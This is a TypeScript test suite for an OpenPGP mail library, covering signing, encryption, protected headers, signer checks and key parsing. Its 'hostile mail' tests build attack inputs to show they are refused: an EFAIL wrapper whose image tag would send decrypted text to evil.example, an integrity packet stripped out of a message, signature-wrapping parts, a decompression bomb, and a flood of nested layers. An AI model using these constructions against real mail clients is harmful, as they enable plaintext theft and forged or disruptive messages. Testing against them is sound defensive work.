import { beforeAll, describe, expect, it } from 'vitest';
import { armored, encryptPgp, generatePgpKey, type PgpKey, type PgpSecretKey, readArmor, readPgpKeys, softwarePgpDecryptor } from '#crypto';
import { pgpEncrypted, pgpSigned, splitMail } from '#mail';
import { cpuWatch } from '../../../../test/support/cpu-time.js';
import { seededRandom } from '../../../../test/support/seeded-random.js';
import { type OpenedPgpMail, openPgp, type PgpOpening } from './open-pgp.js';
import { type PgpProtection, protectByPgp } from './pgp-mail.js';

const AT = new Date('2026-03-01T12:00:00Z');
const LATER = new Date('2026-03-01T12:05:00Z');
const lines = (...text: string[]): Buffer => Buffer.from(text.map((line) => `${line}\r\n`).join(''));
const BODY = ['MIME-Version: 1.0', 'Content-Type: text/plain', '', 'Hello.'];
const MAIL = lines('From: Ada <ada@a.example>', 'To: b@b.example', 'Subject: the offer', ...BODY);
const all = (text: Buffer): string => text.toString('latin1');

let ada: PgpSecretKey;
let bob: PgpSecretKey;
let keys: PgpKey[];
let ours: PgpOpening;
let clear: Pick<PgpProtection, 'at' | 'sign'>;
let sealed: Pick<PgpProtection, 'at' | 'encrypt'>;

beforeAll(async () => {
  ada = await generatePgpKey({ type: 'curve25519', name: 'Ada Example', address: 'ada@a.example', at: AT });
  bob = await generatePgpKey({ type: 'p256', address: 'b@b.example', at: AT });
  keys = [ada.key, bob.key];
  ours = { at: LATER, decryptor: softwarePgpDecryptor([bob]), known: keys };
  clear = { at: LATER, sign: { secret: ada } };
  sealed = { at: LATER, encrypt: { keys } };
});

/** Protects a mail in several steps, the innermost first. */
async function layered(mail: Buffer, ...steps: PgpProtection[]): Promise<Buffer> {
  let out = mail;
  for (const step of steps) out = await protectByPgp(out, step);
  return out;
}

function summary({ layers, stoppedBy }: OpenedPgpMail): string[] {
  const words = layers.map((layer) => {
    if (layer.kind === 'signed') return `signed ${layer.form} ${layer.verdict}`;
    return `encrypted ${layer.opened ? 'opened' : 'closed'}`;
  });
  return stoppedBy === undefined ? words : [...words, stoppedBy];
}

describe('a mail', () => {
  it.each<[string, () => PgpProtection[], string[]]>([
    ['signed', () => [clear], ['signed clear good']],
    ['encrypted', () => [sealed], ['encrypted opened']],
    ['signed and encrypted at once', () => [{ ...clear, ...sealed }], ['encrypted opened', 'signed opaque good']],
    ['signed, then encrypted', () => [clear, sealed], ['encrypted opened', 'signed clear good']],
    ['compressed', () => [{ ...sealed, encrypt: { keys, compression: 'zlib' } }], ['encrypted opened']],
    [
      'signed, encrypted, signed, encrypted',
      () => [clear, sealed, clear, sealed],
      ['encrypted opened', 'signed clear good', 'encrypted opened', 'signed clear good'],
    ],
  ])('comes back as it was: %s', async (_, steps, layers) => {
    const opened = await openPgp(await layered(MAIL, ...steps()), ours);
    expect(summary(opened)).toEqual(layers);
    expect(all(opened.mail)).toBe(all(MAIL));
  });

  it('encrypted inline comes back as its text', async () => {
    const inline = await protectByPgp(MAIL, { ...clear, ...sealed, encrypt: { keys, form: 'inline' } });
    expect(all(inline)).not.toContain('multipart');
    const opened = await openPgp(inline, ours);
    expect(summary(opened)).toEqual(['encrypted opened', 'signed opaque good']);
    expect(all(opened.mail)).toMatch(/Subject: the offer\r\n[^]*text\/plain; charset=utf-8[^]*\r\n\r\nHello\.\r\n$/);
  });

  it('encrypted inline takes its files along, each by itself, and signatures of pieces do not count', async () => {
    const mail = lines(
      'From: ada@a.example',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>See <b>below</b>.</p>',
      '--b',
      'Content-Type: image/png; name="Übersicht.png"',
      'Content-Disposition: attachment; filename="Übersicht.png"',
      '',
      'the picture',
      '--b--',
    );
    const inline = await protectByPgp(mail, { ...clear, ...sealed, encrypt: { keys, form: 'inline' } });
    expect(all(inline)).not.toMatch(/below|picture/);
    const opened = await openPgp(inline, ours);
    expect(opened.layers).toMatchObject([{ kind: 'encrypted', pieces: 2 }]);
    expect(all(opened.mail)).toContain('See below.');
    expect(all(opened.mail)).toContain(Buffer.from('the picture').toString('base64'));
    expect(all(opened.mail)).toContain("filename*=utf-8''%C3%9Cbersicht.png");
  });

  it('with HTML that must not become text goes as MIME where inline was asked for', async () => {
    const html = Buffer.from(all(MAIL).replace('text/plain', 'text/html'));
    const encrypt = { keys, form: 'inline', htmlToText: false } as const;
    expect(all(await protectByPgp(html, { ...sealed, encrypt }))).toContain('multipart/encrypted');
    expect(all(await protectByPgp(MAIL, { ...sealed, encrypt }))).not.toContain('multipart');
  });

  it('without OpenPGP stays byte for byte', async () => {
    const mail = Buffer.from('Subject: x\n\nlines of Unix\n');
    expect(await openPgp(mail, ours)).toEqual({ mail, layers: [], stoppedBy: undefined, protectedHeader: undefined, beside: [] });
  });

  it('that is encrypted shows nothing of its body', async () => {
    expect(all(await protectByPgp(MAIL, sealed))).not.toContain('Hello');
  });

  it('above the limit is neither protected nor opened', async () => {
    await expect(protectByPgp(MAIL, { ...sealed, maxBytes: MAIL.length - 1 })).rejects.toMatchObject({ code: 'too-large' });
    expect(summary(await openPgp(MAIL, { at: AT, maxBytes: MAIL.length - 1 }))).toEqual(['too-large']);
  });

  it('keeps the clear signature inside of its encryption when that is asked for', async () => {
    const opened = await openPgp(await layered(MAIL, clear, sealed), { ...ours, keepSignatures: true });
    expect(all(opened.mail)).toContain('multipart/signed');
    expect(summary(await openPgp(opened.mail, ours))).toEqual(['signed clear good']);
  });

  it('that nobody here can open says for whom it is', async () => {
    const opened = await openPgp(await protectByPgp(MAIL, { ...sealed, encrypt: { keys: [ada.key] } }), ours);
    expect(summary(opened)).toEqual(['encrypted closed', 'cannot-decrypt']);
    expect(opened.layers).toMatchObject([{ envelope: { integrity: 'hash', recipients: [{ keyId: ada.key.subkeys[0]?.keyId }] } }]);
  });

  it('is not encrypted for a key that does not serve, nor signed with one', async () => {
    const old = await generatePgpKey({ type: 'curve25519', address: 'old@a.example', at: AT, validDays: 1 });
    const later = new Date('2026-03-03T12:00:00Z');
    await expect(protectByPgp(MAIL, { at: later, encrypt: { keys: [bob.key, old.key] } })).rejects.toMatchObject({ code: 'unusable-key' });
    await expect(protectByPgp(MAIL, { at: later, sign: { secret: old } })).rejects.toMatchObject({ code: 'unusable-key' });
  });
});

describe('a protected header', () => {
  const protectedFields = ['from', 'subject'] as const;

  it('hides the subject of an encrypted mail and gives it back', async () => {
    const encrypted = await protectByPgp(MAIL, { ...clear, ...sealed, protectedFields });
    expect(all(encrypted)).toContain('Subject: [...]');
    expect(all(encrypted)).not.toContain('the offer');
    const opened = await openPgp(encrypted, ours);
    expect(all(opened.mail)).toBe(all(lines('From: Ada <ada@a.example>', 'To: b@b.example', 'Subject: the offer', ...BODY)));
    expect(opened.protectedHeader?.protection).toBe('cipher');
  });

  it('is read in the form of before RFC 9788', async () => {
    const entity = lines('Content-Type: text/plain; protected-headers="v1"', 'Subject: the offer', '', 'Hello.');
    const message = armored('PGP MESSAGE', await encryptPgp(entity, keys, { at: LATER }));
    const mail = Buffer.concat([lines('From: ada@a.example', 'Subject: ...'), pgpEncrypted(message, 'b')]);
    expect(all((await openPgp(mail, ours)).mail)).toBe(
      all(lines('From: ada@a.example', 'Subject: the offer', 'MIME-Version: 1.0', 'Content-Type: text/plain', '', 'Hello.')),
    );
  });

  it('gives back a subject that was changed on the way, but not under a broken signature', async () => {
    const signed = await protectByPgp(MAIL, { ...clear, protectedFields });
    const changed = Buffer.from(all(signed).replace('Subject: the offer', 'Subject: another'), 'latin1');
    expect(all((await openPgp(changed, ours)).mail)).toContain('Subject: the offer');
    const broken = Buffer.from(all(changed).replace('Hello.', 'Hallo.'), 'latin1');
    expect(all((await openPgp(broken, ours)).mail)).toContain('Subject: another');
  });
});

describe('who signed', () => {
  const isFrom = async (mail: Buffer): Promise<boolean[]> =>
    (await openPgp(mail, ours)).layers.flatMap((layer) =>
      layer.kind === 'signed' ? layer.signatures.map((signature) => signature.isFrom) : [],
    );

  it.each([
    ['the signer', 'From: Ada <ada@a.example>', true],
    ['the signer, in other letters', 'From: ADA@A.example', true],
    ['somebody else', 'From: boss@a.example', false],
    ['somebody else with the name of the signer', 'From: "ada@a.example" <boss@a.example>', false],
    ['both', 'From: ada@a.example, boss@a.example', false],
    ['nobody', 'X-From: ada@a.example', false],
  ])('is compared with From: %s', async (_, from, expected) => {
    const [, ...rest] = all(MAIL).split('\r\n');
    expect(await isFrom(await protectByPgp(Buffer.from([from, ...rest].join('\r\n')), clear))).toEqual([expected]);
  });

  it('is not believed when another From was protected', async () => {
    const signed = await protectByPgp(MAIL, { ...clear, protectedFields: ['from'] });
    const resent = Buffer.from(all(signed).replace('From: Ada <ada@a.example>', 'From: eve@e.example'), 'latin1');
    expect(await isFrom(resent)).toEqual([false]);
  });

  it('is unknown without the key', async () => {
    const { layers } = await openPgp(await protectByPgp(MAIL, clear), { at: LATER, known: [bob.key] });
    expect(layers).toMatchObject([{ verdict: 'unknown-signer', signatures: [{ keyId: ada.key.primary.keyId, isFrom: false }] }]);
  });

  it('is told to have an expired key, as of now', async () => {
    const old = await generatePgpKey({ type: 'curve25519', address: 'ada@a.example', at: AT, validDays: 1 });
    const signed = await protectByPgp(MAIL, { at: LATER, sign: { secret: old } });
    const { layers } = await openPgp(signed, { at: new Date('2026-03-03T00:00:00Z'), known: [old.key] });
    expect(layers).toMatchObject([{ verdict: 'good', signatures: [{ objection: 'expired', signedAt: '2026-03-01T12:05:00.000Z' }] }]);
  });

  it('is not believed about the future', async () => {
    const signed = await protectByPgp(MAIL, { at: new Date('2026-04-01T00:00:00Z'), sign: { secret: ada } });
    expect((await openPgp(signed, ours)).layers).toMatchObject([{ signatures: [{ result: { why: 'from-the-future' } }] }]);
  });

  it('did not sign what only stands in its user id: an address of somebody else in a key that is not theirs', async () => {
    const eve = await generatePgpKey({ type: 'curve25519', name: 'ada a example', address: 'eve@e.example', at: AT });
    const { layers } = await openPgp(await protectByPgp(MAIL, { at: LATER, sign: { secret: eve } }), { at: LATER, known: [eve.key] });
    expect(layers).toMatchObject([{ verdict: 'good', signatures: [{ isFrom: false }] }]);
  });
});

describe('hostile mail', () => {
  const read = async (mail: Buffer): Promise<string[]> => summary(await openPgp(mail, ours));

  it('changed in its body is broken', async () => {
    const signed = all(await protectByPgp(MAIL, clear)).replace('Hello.', 'Hallo.');
    expect(await read(Buffer.from(signed, 'latin1'))).toEqual(['signed clear broken']);
  });

  it('around an encrypted mail is not decrypted (EFAIL, direct exfiltration)', async () => {
    const inner = all(splitMail(await protectByPgp(MAIL, sealed)).entity);
    const html = (text: string): string[] => ['--o', 'Content-Type: text/html', '', text];
    const around = lines(
      ...['Content-Type: multipart/mixed; boundary=o', '', ...html('<img src="http://evil.example/'), '--o', inner, ...html('">'), '--o--'],
    );
    expect(await openPgp(around, ours)).toMatchObject({ layers: [], mail: around });
  });

  it('whose integrity packet was taken off is not opened (EFAIL, gadgets)', async () => {
    const message = await encryptPgp(Buffer.from('Hello.'), keys, { at: LATER });
    // the last packet has a head of six bytes and a version: as a packet of type 9 it is the same without protection
    const at = message.lastIndexOf(Buffer.from([0xd2, 0xff]));
    const stripped = Buffer.concat([
      message.subarray(0, at),
      Buffer.from([0xc9, 0xff, 0, 0, 0, message.length - at - 7]),
      message.subarray(at + 7),
    ]);
    const mail = Buffer.concat([lines('From: ada@a.example'), pgpEncrypted(armored('PGP MESSAGE', stripped), 'b')]);
    expect(await read(mail)).toEqual(['encrypted closed', 'no-integrity']);
  });

  it('around a signed mail is not signed (signature wrapping)', async () => {
    const inner = all(splitMail(await protectByPgp(MAIL, clear)).entity);
    const around = lines('From: ada@a.example', 'Content-Type: multipart/mixed; boundary=o', '', '--o', '', 'Pay!', '--o', inner, '--o--');
    expect(await read(around)).toEqual([]);
  });

  it('with a part before, between or behind the signed ones is not signed', async () => {
    const signed = all(await protectByPgp(MAIL, clear));
    const boundary = /boundary="([^"]+)"/.exec(signed)?.[1] ?? '';
    const evil = `--${boundary}\r\n\r\nPay!\r\n`;
    const places = [
      signed.indexOf(`--${boundary}`),
      signed.indexOf(`--${boundary}\r\nContent-Type: application`),
      signed.indexOf(`--${boundary}--`),
    ];
    for (const at of places) expect(await read(Buffer.from(signed.slice(0, at) + evil + signed.slice(at), 'latin1'))).toEqual([]);
  });

  it('of 1,000 layers is opened as far as the limit, quickly', async () => {
    let entity = splitMail(MAIL).entity;
    const signature = armored('PGP SIGNATURE', readArmor(await protectByPgp(MAIL, clear)).bytes);
    for (let layer = 0; layer < 1_000; layer++) entity = pgpSigned({ entity, signature, hash: 'sha256', boundary: `b${layer}b` });
    expect(await read(Buffer.concat([lines('From: ada@a.example'), entity]))).toEqual([
      ...Array.from({ length: 16 }, () => 'signed clear broken'),
      'too-many-layers',
    ]);
  });

  it('that swells beyond the limit is given up, and what it is is told', async () => {
    const bomb = await protectByPgp(Buffer.concat([lines('Content-Type: text/plain', ''), Buffer.alloc(60_000_000, 'x')]), {
      ...sealed,
      encrypt: { keys, compression: 'zlib' },
      maxBytes: 100_000_000,
    });
    expect(bomb.length).toBeLessThan(200_000);
    expect(await read(bomb)).toEqual(['encrypted closed', 'too-large']);
  });

  it('of 45 MB with 32 signatures, as text, is answered in time', async () => {
    const entity = Buffer.concat([lines('Content-Type: text/plain', ''), Buffer.alloc(45_000_000, 'x\r\n')]);
    const { bytes } = readArmor(await protectByPgp(Buffer.concat([lines('From: ada@a.example'), entity]), clear));
    bytes[3] = 1; // a signature over text, for which line ends are made alike
    const signature = armored('PGP SIGNATURE', Buffer.concat(Array.from({ length: 32 }, () => bytes)));
    const mail = Buffer.concat([lines('From: ada@a.example'), pgpSigned({ entity, signature, hash: 'sha512', boundary: 'b' })]);
    const used = cpuWatch();
    const { layers } = await openPgp(mail, ours);
    expect(used()).toBeLessThan(5_000);
    expect(layers).toMatchObject([{ verdict: 'broken' }]);
    const faults = layers.flatMap((layer) =>
      layer.kind === 'signed' ? layer.signatures.map(({ result }) => 'why' in result && result.why) : [],
    );
    expect(faults).toEqual([...Array.from({ length: 5 }, () => 'does-not-hold'), ...Array.from({ length: 27 }, () => 'not-checked')]);
  });

  it.each<[string, () => PgpProtection]>([
    ['signed', () => clear],
    ['encrypted', () => sealed],
    ['signed and encrypted', () => ({ ...clear, ...sealed })],
  ])('with one of 200 bits changed is never good with another content: %s', async (_, protection) => {
    const bytes = await protectByPgp(MAIL, protection());
    const random = seededRandom(11);
    for (let i = 0; i < 200; i++) {
      const copy = Buffer.from(bytes);
      copy[random.between(0, bytes.length - 1)]! ^= 1 << random.between(0, 7);
      const { layers, mail } = await openPgp(copy, ours);
      const holds = layers.some((layer) => (layer.kind === 'signed' ? layer.verdict === 'good' : layer.opened));
      if (holds) expect(all(splitMail(mail).entity)).toBe(all(splitMail(MAIL).entity));
    }
  });

  it.each([
    ['nothing', Buffer.alloc(0), 'malformed'],
    ['text', Buffer.from('hello'), 'malformed'],
    ['a key', Buffer.from('99000104', 'hex'), 'malformed'],
    ['an armored block of another kind', armored('PGP SIGNATURE', Buffer.from('c20100', 'hex')), 'malformed'],
    ['half a block', Buffer.from('-----BEGIN PGP MESSAGE-----\n\nMTIz'), 'malformed'],
  ])('with %s for a message is damaged', async (_, message, stop) => {
    expect((await read(Buffer.concat([lines('From: a@a.example'), pgpEncrypted(message, 'b')]))).at(-1)).toBe(stop);
  });
});

describe('keys that come by mail or file', () => {
  it('do not take in a sub-key that somebody else has put beside them', async () => {
    // a sub-key packet of 86 bytes: ECDH on P-256
    const at = bob.key.bytes.indexOf(Buffer.from([0xce, 0x56]));
    const foreign = Buffer.concat([ada.key.bytes, bob.key.bytes.subarray(at)]);
    const [key] = await readPgpKeys(foreign, LATER);
    expect(key?.subkeys.at(-1)).toMatchObject({ fingerprint: bob.key.subkeys[0]?.fingerprint, uses: [], defects: ['not-bound'] });
    const encrypted = await protectByPgp(MAIL, { at: LATER, encrypt: { keys: [key!] } });
    expect(await openPgp(encrypted, { at: LATER, decryptor: softwarePgpDecryptor([bob]) })).toMatchObject({ stoppedBy: 'cannot-decrypt' });
  });

  it('do not get another user id by exchanging the text', async () => {
    const changed = Buffer.from(ada.key.bytes.toString('latin1').replace('ada@a.example', 'eve@a.example'), 'latin1');
    const [key] = await readPgpKeys(changed, LATER);
    expect(key).toMatchObject({ addresses: [], userIds: [{ text: 'Ada Example <eve@a.example>', isValid: false }] });
  });
});
